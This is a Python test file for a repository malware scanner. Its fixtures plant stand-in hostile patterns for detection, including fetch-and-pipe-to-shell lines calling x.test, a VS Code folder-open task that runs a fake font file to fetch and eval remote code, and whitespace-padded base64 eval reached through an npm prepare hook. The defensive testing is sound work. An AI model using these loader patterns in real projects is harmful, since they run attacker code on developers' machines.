"""End to end over small repositories made in tmp_path: walk, engines, merge, reachability."""

from __future__ import annotations

import base64
import json
from pathlib import Path

import pytest

from inspector.errors import ScanError
from inspector.model import Category, Endpoint, EndpointSource, Engine, Finding, Severity, TraceStep
from inspector.static import ScanOptions, scan, scan_payload, walk
from inspector.static.merge import link_hosts, merge_endpoints, merge_findings

OPTIONS = ScanOptions(jobs=1, semgrep=False)


def write(root: Path, files: dict[str, str | bytes]) -> Path:
    for rel, content in files.items():
        target = root / rel
        target.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            target.write_bytes(content)
        else:
            target.write_text(content)
    return root


def by_rule(result) -> dict[str, Finding]:
    return {f.rule: f for f in result.findings}


def test_walk_lists_links_dotfiles_and_git_hooks_but_not_git_internals(tmp_path: Path) -> None:
    write(
        tmp_path,
        {
            ".vscode/tasks.json": "{}",
            ".github/workflows/ci.yml": "on: push",
            "notes.txt": "x",
            ".git/config": "[core]\n",
            ".git/hooks/post-checkout": "#!/bin/sh\n",
            ".git/objects/ab/cd": "blob",
            ".git/HEAD": "ref: refs/heads/main",
            ".git/index": b"DIRC",
            "node_modules/dep/index.js": "module.exports = 1",
        },
    )
    (tmp_path / "passwd-link").symlink_to("/etc/passwd")
    files, notes = walk(tmp_path)
    paths = {f.path: f for f in files}
    assert {
        ".vscode/tasks.json",
        ".github/workflows/ci.yml",
        "notes.txt",
        ".git/config",
        ".git/hooks/post-checkout",
    } <= set(paths)
    assert not any(p.startswith(".git/objects") or p == ".git/HEAD" for p in paths)
    assert paths["passwd-link"].is_link
    # node_modules is not in the git index: installed locally, skipped with a note
    assert not any(p.startswith("node_modules/") for p in paths)
    assert [n.path for n in notes] == ["node_modules"]


def test_node_modules_is_scanned_when_committed_or_without_git(tmp_path: Path) -> None:
    write(tmp_path, {"node_modules/dep/index.js": "x"})
    assert "node_modules/dep/index.js" in {f.path for f in walk(tmp_path)[0]}
    write(tmp_path, {".git/index": b"DIRC....node_modules/dep/index.js"})
    assert "node_modules/dep/index.js" in {f.path for f in walk(tmp_path)[0]}


def test_hooks_path_inside_git_is_walked(tmp_path: Path) -> None:
    write(
        tmp_path,
        {
            ".git/config": "[core]\n\thooksPath = .git/objects/interrupt\n",
            ".git/objects/interrupt/pre-commit": "#!/bin/sh\ncurl -s http://x.test/a | sh\n",
            ".git/objects/ab/cdef": "blob",
        },
    )
    paths = {f.path for f in walk(tmp_path)[0]}
    assert ".git/objects/interrupt/pre-commit" in paths and ".git/objects/ab/cdef" not in paths


def test_link_is_never_read(tmp_path: Path) -> None:
    secret = tmp_path.parent / "outside-secret.js"
    secret.write_text("eval(require('https').get('https://x.test'))")
    write(tmp_path, {"index.js": "console.log(1)"})
    (tmp_path / "linked.js").symlink_to(secret)
    result = scan(tmp_path, OPTIONS)
    assert not any(f.path == "linked.js" for f in result.findings if f.category != Category.ANALYSIS)


def test_folder_open_task_running_a_fake_font_is_critical_and_reachable(tmp_path: Path) -> None:
    write(
        tmp_path,
        {
            ".vscode/tasks.json": json.dumps(
                {
                    "tasks": [
                        {"label": "fonts", "command": "node public/fa.woff2", "runOptions": {"runOn": "folderOpen"}}
                    ]
                },
                indent=2,
            ),
            "public/fa.woff2": "const h = require('https');\nconst run = (s) => eval(s);\n"
            "h.get('https://fonts-cdn.test/x', r => r.on('data', run));\n",
        },
    )
    result = scan(tmp_path, OPTIONS)
    rules = by_rule(result)
    disguised = rules["hidden-code.disguised-file"]
    assert disguised.severity == Severity.CRITICAL
    assert disguised.reachable_from == (".vscode/tasks.json#tasks[0]",)
    task = rules["auto-run.vscode-folder-open"]
    assert task.severity == Severity.CRITICAL
    assert task.trace[-1].path == "public/fa.woff2"
    assert "fonts-cdn.test" in {e.host for e in result.endpoints}
    assert result.auto_run[0].runs_files == ("public/fa.woff2",)


def test_lifecycle_hook_reaching_hidden_code_through_imports(tmp_path: Path) -> None:
    hidden = "const a = 1;" + " " * 300 + "eval(Buffer.from(process.env.X, 'base64').toString())"
    write(
        tmp_path,
        {
            "package.json": json.dumps({"scripts": {"prepare": "node server/server.js"}}, indent=2),
            "server/server.js": "require('./utils/region');\nconsole.log('listening');\n",
            "server/utils/region.js": f"{hidden}\n",
            "unrelated.js": "console.log(2)\n",
        },
    )
    result = scan(tmp_path, OPTIONS)
    padding = by_rule(result)["hidden-code.whitespace-padding"]
    assert padding.path == "server/utils/region.js"
    assert padding.reachable_from == ("package.json#scripts.prepare",)
    assert padding.severity == Severity.CRITICAL
    assert by_rule(result)["auto-run.npm-install-starts-app"].severity == Severity.CRITICAL


def test_plain_repository_is_quiet(tmp_path: Path) -> None:
    write(
        tmp_path,
        {
            "package.json": json.dumps(
                {"scripts": {"prepare": "husky install", "start": "node index.js", "build": "node scripts/build.js"}}
            ),
            "index.js": "const express = require('express');\nexpress().listen(3000);\n",
            "scripts/build.js": "require('fs').writeFileSync('dist/x', 'y');\n",
            "README.md": "Run `npm start`. Docs: https://expressjs.com\n",
            "tsconfig.json": '{"$schema": "https://json.schemastore.org/tsconfig"}',
        },
    )
    result = scan(tmp_path, OPTIONS)
    assert all(f.severity.rank <= Severity.LOW.rank for f in result.findings), result.findings
    assert {s.kind for s in result.auto_run} == {"npm-lifecycle", "npm-script"}
    assert result.files_scanned == 5


def test_encoded_config_endpoint_and_counts(tmp_path: Path) -> None:
    b64 = base64.b64encode(b"https://api.npoint.io/0123456789abcdef0123").decode()
    write(tmp_path, {"config/default.json": json.dumps({"publicKey": b64})})
    result = scan(tmp_path, OPTIONS)
    [endpoint] = result.endpoints
    assert endpoint.host == "api.npoint.io" and endpoint.classification == "json-hosting"
    assert endpoint.sources[0].how == "base64 in config value publicKey"
    assert result.bytes_scanned == (tmp_path / "config/default.json").stat().st_size


def test_bad_input_gives_info_findings_not_crashes(tmp_path: Path) -> None:
    write(
        tmp_path,
        {
            "huge.js": "x = 1;\n" * 10 + "y = 2;" + " " * 200 + "eval(z)\n",
            "deep.json": "[" * 100000 + "]" * 100000,
            "package.json": "{" * 50000,
            "binary.bin": bytes(range(256)) * 10,
            "long-line.js": "a" * 2_000_000,
        },
    )
    result = scan(tmp_path, ScanOptions(jobs=1, semgrep=False, max_file_bytes=100))
    rules = {(f.path, f.rule) for f in result.findings}
    assert ("huge.js", "analysis.over-size-cap") in rules
    assert ("huge.js", "hidden-code.whitespace-padding") in rules  # still streamed for hidden code
    assert ("package.json", "analysis.unparsed-manifest") in rules


def test_only_paths_limits_the_scan(tmp_path: Path) -> None:
    write(tmp_path, {"a.sh": "curl https://x.test/i | sh\n", "b.sh": "curl https://y.test/i | sh\n"})
    result = scan(tmp_path, ScanOptions(jobs=1, semgrep=False, only_paths=("a.sh", "../escape")))
    assert {f.path for f in result.findings} == {"a.sh"}
    assert result.files_scanned == 1


def test_cache_gives_the_same_result(tmp_path: Path) -> None:
    repo = write(tmp_path / "repo", {"x.sh": "wget -qO- http://x.test | sh\n", "a.js": "eval(atob('eA=='))"})
    options = ScanOptions(jobs=1, semgrep=False, cache_dir=tmp_path / "cache")
    first = scan(repo, options)
    assert any((tmp_path / "cache" / "text").rglob("*.pickle"))
    assert scan(repo, options) == first


def test_missing_root_is_a_scan_error(tmp_path: Path) -> None:
    with pytest.raises(ScanError):
        scan(tmp_path / "nope", OPTIONS)


def test_scan_payload_relabels_findings_and_names_the_language() -> None:
    body = b"var _0x1=['a'];" + b"".join(b"var _0x%04x=1;" % i for i in range(12)) + b"eval(_0x1[0]);"
    findings = scan_payload(body, "../../etc/stage2", "https://c2.test/p")
    assert all(f.category == Category.PAYLOAD and f.path == "payload:../../etc/stage2" for f in findings)
    rules = {f.rule for f in findings}
    assert {"payload.code-body", "obfuscation.javascript-obfuscator"} <= rules
    assert all("https://c2.test/p" in f.message for f in findings)


def finding(rule: str, category: Category, line: int, engine: Engine, trace=(), hosts=()) -> Finding:
    return Finding(
        id=rule,
        rule=rule,
        severity=Severity.HIGH,
        category=category,
        path="a.js",
        line=line,
        column=1,
        message=rule,
        evidence="",
        engines=(engine,),
        trace=trace,
        hosts=hosts,
    )


def test_merge_collapses_cross_engine_duplicates_only() -> None:
    semgrep = finding("sg", Category.REMOTE_CODE_EXECUTION, 10, Engine.SEMGREP)
    rich = finding(
        "ts",
        Category.REMOTE_CODE_EXECUTION,
        11,
        Engine.TREE_SITTER,
        trace=(TraceStep("a.js", 3, 1, "source"), TraceStep("a.js", 11, 1, "sink")),
    )
    other = finding("ts2", Category.REMOTE_CODE_EXECUTION, 12, Engine.TREE_SITTER)
    far = finding("sg2", Category.REMOTE_CODE_EXECUTION, 30, Engine.SEMGREP)
    merged = merge_findings([semgrep, rich, other, far])
    assert [f.rule for f in merged] == ["ts", "ts2", "sg2"]
    assert merged[0].engines == (Engine.TREE_SITTER, Engine.SEMGREP)


def test_endpoints_merge_by_host_and_reach_execution_through_the_trace() -> None:
    a = Endpoint(
        "api.npoint.io", ("https://api.npoint.io/x",), (EndpointSource(".env", 2, "base64 in .env"),), "json-hosting"
    )
    b = Endpoint("API.npoint.io", (), (EndpointSource("a.js", 3, "literal"),), "json-hosting", ports=(443,))
    merged = merge_endpoints([a, b])
    assert len(merged) == 1 and merged[0].ports == (443,) and len(merged[0].sources) == 2
    rce = finding(
        "ts", Category.REMOTE_CODE_EXECUTION, 11, Engine.TREE_SITTER, trace=(TraceStep("a.js", 3, 1, "source"),)
    )
    linked, endpoints = link_hosts([rce], merged)
    assert linked[0].hosts == ("api.npoint.io",)
    assert endpoints[0].reaches_execution
